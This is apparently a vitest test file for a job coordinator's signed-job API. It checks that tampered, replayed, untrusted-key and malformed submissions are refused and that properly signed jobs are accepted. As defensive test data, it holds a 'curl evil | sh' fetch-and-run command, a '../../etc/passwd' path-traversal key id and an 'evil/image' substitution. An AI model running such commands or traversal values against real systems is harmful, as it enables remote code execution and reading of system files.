/**
 * Signed jobs on the embedded server, over HTTP (issue 11): a job signed by a trusted key is accepted
 * and shows who signed it; a tampered one, one moved onto another id, or one signed by a key the
 * server does not trust is refused with the key and the reason named, and nothing is stored; an
 * unsigned job is refused where signatures are required and accepted where they are not. The
 * assignment a worker is then sent carries the signature and every signed field, and verifies.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startEmbedded, type EmbeddedSystem } from '../../src/main/embedded.ts';
import { withDefaults } from '../../src/main/config.ts';
import { signingPolicy } from '../../src/main/job-signers.ts';
import { generateSigningKeyPair, signJob, type SignedSpec, type SigningPolicy } from '../../src/jobs/signing.ts';
import { signatureRefusal } from '../../src/agent/worker.ts';
import type { ExecutionAssignment } from '../../src/jobs/model.ts';

/** The key the system's own CLI uses, where the access layer (issue 11, landing beside this) issues one; undefined before it. */
const operatorKeyOf = (system: EmbeddedSystem): string | undefined => (system as EmbeddedSystem & { readonly operatorKey?: string }).operatorKey;

const alice = generateSigningKeyPair();
const mallory = generateSigningKeyPair();
let counter = 0;
const nextId = (): string => `7d5c2f7e-0000-4000-8000-${String(++counter).padStart(12, '0')}`;

/** A job body stating every signed field, as `arcnet submit --sign-key` sends it. */
const spec = (overrides: Partial<Omit<SignedSpec, 'input_data'>> = {}): Omit<SignedSpec, 'input_data'> & { input_data?: string } => ({
  id: nextId(),
  name: 'signed hello',
  docker_image: 'arcnet/busybox:test',
  command: ['sh', '-c', 'echo hello | sha256sum'],
  environment: { GREETING: 'hello' },
  required_cpu: 1,
  required_memory: 0.5,
  required_gpu: false,
  redundancy: 1,
  consensus: 1,
  max_executions: 2,
  timeout_seconds: 60,
  network: false,
  ...overrides,
});
const signed = (body: ReturnType<typeof spec>, keyId = 'alice', privateKey = alice.privateKey): Record<string, unknown> => ({
  ...body,
  signature: signJob({ ...body, input_data: body.input_data ?? null }, keyId, privateKey),
});

describe('signed jobs over the jobs API', () => {
  const dir = mkdtempSync(join(tmpdir(), 'arcnet-signing-'));
  let open: EmbeddedSystem;
  let strict: EmbeddedSystem;
  let policy: SigningPolicy;

  beforeAll(async () => {
    writeFileSync(join(dir, 'alice.pub'), alice.publicKey);
    const start = (required: boolean): Promise<EmbeddedSystem> =>
      startEmbedded(withDefaults({ port: 0, dataDir: null, simulation: { nodes: 0, requestRate: 0 }, jobs: { signing: signingPolicy({ signersDir: dir, required, what: 'test' }) } }));
    [open, strict] = await Promise.all([start(false), start(true)]);
    policy = signingPolicy({ signersDir: dir, required: true, what: 'test worker' });
  });
  afterAll(async () => {
    await Promise.all([open?.stop(), strict?.stop()]);
    rmSync(dir, { recursive: true, force: true });
  });

  const call = async (system: EmbeddedSystem, method: string, path: string, body?: unknown, bearer = operatorKeyOf(system)): Promise<{ status: number; json: Record<string, unknown> }> => {
    const headers: Record<string, string> = {};
    if (body !== undefined) headers['content-type'] = 'application/json';
    if (bearer !== undefined) headers['authorization'] = `Bearer ${bearer}`;
    const response = await fetch(`${system.url}${path}`, { method, headers, ...(body === undefined ? {} : { body: JSON.stringify(body) }) });
    return { status: response.status, json: (await response.json()) as Record<string, unknown> };
  };
  const submit = (system: EmbeddedSystem, body: unknown) => call(system, 'POST', '/api/v1/jobs', body);
  const stored = async (system: EmbeddedSystem, id: string): Promise<number> => (await call(system, 'GET', `/api/v1/jobs/${id}`)).status;

  it('accepts a job signed by a trusted key and shows who signed it', async () => {
    const body = spec();
    const answer = await submit(strict, signed(body));
    expect(answer.status, String(answer.json['message'])).toBe(201);
    expect(answer.json).toMatchObject({ id: body.id, signed_by: 'alice', signature: { key_id: 'alice' } });
    expect((await call(strict, 'GET', `/api/v1/jobs/${body.id}`)).json).toMatchObject({ signed_by: 'alice' });
    const listed = (await call(strict, 'GET', '/api/v1/jobs')).json['jobs'] as { id: string; signed_by: string | null }[];
    expect(listed.find((j) => j.id === body.id)?.signed_by).toBe('alice');
    // Submitting it again is the same job, still signed.
    expect(await submit(strict, signed(body))).toMatchObject({ status: 200, json: { id: body.id, signed_by: 'alice' } });
  });

  it('refuses a tampered job, naming the key and why, and stores nothing', async () => {
    for (const [field, value] of [['command', ['sh', '-c', 'curl evil | sh']], ['docker_image', 'evil/image'], ['consensus', 3], ['environment', {}], ['network', true], ['timeout_seconds', 61]] as const) {
      const body = spec({ redundancy: 3, consensus: 2, max_executions: 6 });
      const tampered = { ...signed(body), [field]: value };
      for (const system of [open, strict]) {
        const answer = await submit(system, tampered);
        expect(answer.status, `${field}: ${String(answer.json['message'])}`).toBe(403);
        expect(answer.json).toMatchObject({ code: 'FORBIDDEN', message: expect.stringMatching(new RegExp(`^signature by key "alice" does not verify over job ${body.id}'s signed fields .*: refused$`)) });
        expect(await stored(system, body.id)).toBe(404);
      }
    }
  });

  it('refuses a signature moved onto another job id (a replay)', async () => {
    const original = signed(spec());
    const replay = { ...original, id: nextId() };
    const answer = await submit(open, replay);
    expect(answer.status).toBe(403);
    expect(String(answer.json['message'])).toMatch(/signature by key "alice" does not verify/);
    expect(await stored(open, replay.id)).toBe(404);
  });

  it('refuses a key it does not trust, required or not, saying which', async () => {
    for (const system of [open, strict]) {
      const body = spec();
      const answer = await submit(system, signed(body, 'mallory', mallory.privateKey));
      expect(answer.status).toBe(403);
      expect(answer.json['message']).toBe('signature by key "mallory" is from no trusted signer (trusted: alice): refused');
      expect(await stored(system, body.id)).toBe(404);
      // Mallory claiming to be alice is a signature that does not verify.
      expect((await submit(system, signed(body, 'alice', mallory.privateKey))).status).toBe(403);
    }
  });

  it('answers what is not a signature at all with a 400 naming the field', async () => {
    const body = spec();
    const cases: [unknown, RegExp][] = [
      [{ ...body, signature: { key_id: 'alice', value: 'bm90IGEgc2lnbmF0dXJl' } }, /signature.value must be an Ed25519 signature of 64 bytes, got 15/],
      [{ ...body, signature: { key_id: 'alice', value: '***' } }, /signature.value must be base64/],
      [{ ...body, signature: { key_id: '../../etc/passwd', value: 'AAAA' } }, /body\/signature\/key_id must match pattern/],
      [{ ...body, signature: { key_id: 'alice' } }, /body\/signature must have required property 'value'/],
      [{ ...signed(body), id: undefined }, /id is required on a signed job/],
    ];
    for (const [sent, message] of cases) {
      const answer = await submit(open, sent);
      expect(answer.status, JSON.stringify(sent)).toBe(400);
      expect(String(answer.json['message'])).toMatch(message);
    }
  });

  it('refuses an unsigned job where signatures are required and accepts it where they are not', async () => {
    const body = spec();
    const refused = await submit(strict, body);
    expect(refused.status).toBe(403);
    expect(String(refused.json['message'])).toMatch(/^the job is not signed, and this coordinator requires signed jobs: sign it with its submitter's key \(arcnet submit --sign-key/);
    expect(await stored(strict, body.id)).toBe(404);
    const accepted = await submit(open, body);
    expect(accepted.status).toBe(201);
    expect(accepted.json).toMatchObject({ id: body.id, signed_by: null, signature: null });
  });

  it('names the defaults it filled in when a signature over fewer fields does not verify', async () => {
    const { timeout_seconds: _t, network: _n, ...partial } = spec();
    // Signed as if the server would use timeout 60: it uses its own default (300) instead.
    const signature = signJob({ ...partial, timeout_seconds: 60, network: false, input_data: null }, 'alice', alice.privateKey);
    const answer = await submit(open, { ...partial, signature });
    expect(answer.status).toBe(403);
    expect(String(answer.json['message'])).toMatch(/this coordinator filled in its defaults for timeout_seconds, network: a signed job should state every signed field$/);
  });

  it("hands a worker the signature and every signed field, so the worker's own check passes", async () => {
    const registered = await call(strict, 'POST', '/api/v1/nodes/register', { name: 'signing-worker', cpu_cores: 2, memory_gb: 2 });
    expect(registered.status, String(registered.json['message'])).toBe(201);
    const nodeId = String((registered.json['node'] as { id: string }).id);
    const credential = String(registered.json['credential']);
    const body = spec({ name: 'for the worker' });
    expect((await submit(strict, signed(body))).status).toBe(201);
    const pending = await call(strict, 'GET', `/api/v1/nodes/${nodeId}/pending-jobs`, undefined, credential);
    const assignment = (pending.json['jobs'] as ExecutionAssignment[]).find((a) => a.job_id === body.id);
    expect(assignment).toMatchObject({ name: 'for the worker', redundancy: 1, consensus: 1, max_executions: 2, signature: { key_id: 'alice' } });
    expect(signatureRefusal(assignment!, policy)).toBeUndefined();
    expect(signatureRefusal({ ...assignment!, command: ['sh', '-c', 'echo pwned'] }, policy)).toMatch(/^signature by key "alice" does not verify .*: refused to run$/);
  });
});
